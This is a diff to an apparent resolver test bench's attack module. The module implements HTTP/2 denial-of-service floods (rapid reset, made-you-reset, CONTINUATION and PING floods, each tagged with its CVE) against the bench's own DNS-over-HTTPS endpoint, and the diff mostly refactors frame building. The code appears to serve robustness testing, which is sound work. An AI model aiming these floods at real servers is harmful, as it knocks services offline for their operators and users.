@@ -23,14 +23,23 @@ from bench.attack.bed import ATTACKER, HTTPS_PORT, QUIC_PORT, RESOLVER, TLS_PORT
 from bench.attack.client import query
 from bench.attack.streams import TXT, connect, each_turn, framed
 from bench.common.peers import DOH_PATH
+from resolver.upstream import https_words
+from tests.listen.http2_frames import (
+    CONTINUATION,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    frame,
+    reset,
+    window,
+)
 
 if TYPE_CHECKING:
     from collections.abc import Callable
 
     from bench.attack.bed import Bed
 
-_HEADERS, _RST_STREAM, _PING, _WINDOW_UPDATE, _CONTINUATION = 1, 3, 6, 8, 9
-_END_STREAM, _END_HEADERS = 1, 4
 _AT_ONCE = 100
 
 
@@ -125,11 +134,6 @@ def _wrapped(
 # --- HTTP/2 --------------------------------------------------------------------------------------
 
 
-def _frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
-    head = len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big")
-    return head + body
-
-
 def _over_http(bed: Bed, seconds: float, says: Callable[[bytes, int], bytes]) -> str:
     """Say, for each stream number, what *says* makes of a header block for it; connect anew
     whenever the connection is ended."""
@@ -139,18 +143,23 @@ def _over_http(bed: Bed, seconds: float, says: Callable[[bytes, int], bytes]) ->
         if stream is None:
             continue
         connections += 1
-        with contextlib.suppress(OSError), stream:
-            http = h2.connection.H2Connection(h2.config.H2Configuration())
-            http.initiate_connection()
+        http = h2.connection.H2Connection(h2.config.H2Configuration())
+        http.initiate_connection()
+        with stream:
             stream.settimeout(0.2)
-            stream.sendall(http.data_to_send())
-            for number in itertools.count(1, 2 * _AT_ONCE):
-                numbers = range(number, number + 2 * _AT_ONCE, 2)
-                stream.sendall(b"".join(says(_block(at), at) for at in numbers))
-                streams += len(numbers)
-                if _has_ended(stream):
-                    ended += 1
-                    break
+            try:
+                stream.sendall(http.data_to_send())
+                for number in itertools.count(1, 2 * _AT_ONCE):
+                    numbers = range(number, number + 2 * _AT_ONCE, 2)
+                    stream.sendall(b"".join(says(_block(at), at) for at in numbers))
+                    streams += len(numbers)
+                    if _has_ended(stream):
+                        break
+            except TimeoutError:  # it reads no more, for now
+                continue
+            except OSError:  # ended while we spoke
+                pass
+            ended += 1
     return f"{connections} connections, {streams} streams, {ended} ended on us"
 
 
@@ -166,25 +175,19 @@ def _has_ended(stream: ssl.SSLSocket) -> bool:
 
 def _block(number: int) -> bytes:
     """Literal fields, none of them kept."""
-    name = b"n%d" % number
-    question = query(f"{name.decode()}.good.world")
-    fields = (
-        (b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"localhost"),
-        (b":path", DOH_PATH.encode()), (b"content-type", b"application/dns-message"),
-        (b"content-length", str(len(question)).encode()),
-    )  # fmt: skip
+    question = query(f"n{number}.good.world")
+    place = https_words.Place("localhost", DOH_PATH)
     return b"".join(
-        b"\0" + bytes((len(key),)) + key + bytes((len(value),)) + value for key, value in fields
+        b"\0" + bytes((len(key),)) + key + bytes((len(value),)) + value
+        for key, value in (*place.headers(), https_words.length_of(question))
     )
 
 
 def rapid_reset(bed: Bed, seconds: float) -> str:
     """CVE-2023-44487: streams opened, and given up at once."""
-    cancel = (8).to_bytes(4, "big")
     return _over_http(
         bed, seconds,
-        lambda block, at: _frame(_HEADERS, _END_HEADERS, at, block)
-        + _frame(_RST_STREAM, 0, at, cancel),
+        lambda block, at: frame(HEADERS, END_HEADERS, at, block) + reset(at),
     )  # fmt: skip
 
 
@@ -192,8 +195,7 @@ def made_you_reset(bed: Bed, seconds: float) -> str:
     """CVE-2025-8671: streams opened, and so used that the server gives them up."""
     return _over_http(
         bed, seconds,
-        lambda block, at: _frame(_HEADERS, _END_HEADERS | _END_STREAM, at, block)
-        + _frame(_WINDOW_UPDATE, 0, at, bytes(4)),
+        lambda block, at: frame(HEADERS, END_HEADERS | END_STREAM, at, block) + window(at, 0),
     )  # fmt: skip
 
 
@@ -201,13 +203,13 @@ def continuation(bed: Bed, seconds: float) -> str:
     """CVE-2024-27316: header blocks that never end."""
     return _over_http(
         bed, seconds,
-        lambda block, at: _frame(_HEADERS, 0, at, block) + _frame(_CONTINUATION, 0, at, block) * 50,
+        lambda block, at: frame(HEADERS, 0, at, block) + frame(CONTINUATION, 0, at, block) * 50,
     )  # fmt: skip
 
 
 def pings(bed: Bed, seconds: float) -> str:
     """CVE-2019-9512: pings to be acknowledged."""
-    return _over_http(bed, seconds, lambda _, __: _frame(_PING, 0, 0, bytes(8)))
+    return _over_http(bed, seconds, lambda _, __: frame(PING, 0, 0, bytes(8)))
 
 
 # --- QUIC ----------------------------------------------------------------------------------------
